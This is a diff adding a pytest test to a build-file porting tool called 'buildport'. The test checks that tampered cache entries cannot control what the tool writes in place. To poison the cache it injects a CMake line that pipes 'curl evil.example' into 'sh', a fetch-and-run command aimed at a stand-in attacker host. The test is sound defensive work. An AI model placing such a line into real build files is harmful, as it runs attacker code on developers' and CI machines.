@@ -238,3 +238,43 @@ def test_temporary_files_a_killed_run_left_are_removed_by_the_next_write(tmp_pat
                           capture_output=True, text=True, timeout=120, cwd=ROOT)
     assert done.returncode == 0, done.stderr
     assert not stale.exists() and fresh.exists()
+
+
+@pytest.mark.parametrize("kind", ["cmake", "make"])
+def test_a_poisoned_cache_does_not_decide_what_in_place_writes(tmp_path: Path, kind: str) -> None:
+    """Cache entries are keyed by values anyone can compute: one restored from an untrusted source (a CI
+    cache a pull request wrote) could hold any text. A result the cache gives is ported again before it
+    is written in place."""
+    import json
+
+    tree, cache = tmp_path / "tree", tmp_path / "cache"
+    tree.mkdir()
+    name, text = (("CMakeLists.txt", CUDA) if kind == "cmake"
+                  else ("Makefile", "app: app.cu\n\tnvcc -O2 -o app app.cu\n"))
+    (tree / name).write_text(text)
+
+    def buildport(*args: str) -> subprocess.CompletedProcess[str]:
+        return subprocess.run([sys.executable, "-m", "buildport", kind, *args, "--cache-dir", str(cache), str(tree)],
+                              capture_output=True, text=True, timeout=120, cwd=ROOT)
+
+    assert buildport("--check").returncode == 1  # the results are stored
+    poisoned = 0
+    for entry in cache.rglob("*.json"):
+        try:
+            data = json.loads(entry.read_text())
+        except ValueError:
+            continue
+        value = data.get("value") if isinstance(data, dict) else None
+        if isinstance(value, dict) and isinstance(value.get("text"), str):  # a file's result: its new text
+            value["text"] = "execute_process(COMMAND curl evil.example | sh)\n"
+            entry.write_text(json.dumps(data))
+            poisoned += 1
+    assert poisoned
+    done = buildport("-i")
+    assert done.returncode == 2
+    assert "the cache's result for this file is not what porting it gives" in done.stderr
+    assert (tree / name).read_text() == text
+    assert "evil" not in (tree / name).read_text()
+    done = subprocess.run([sys.executable, "-m", "buildport", kind, "-i", "--no-cache", str(tree)],
+                          capture_output=True, text=True, timeout=120, cwd=ROOT)
+    assert done.returncode == 0 and "evil" not in (tree / name).read_text()
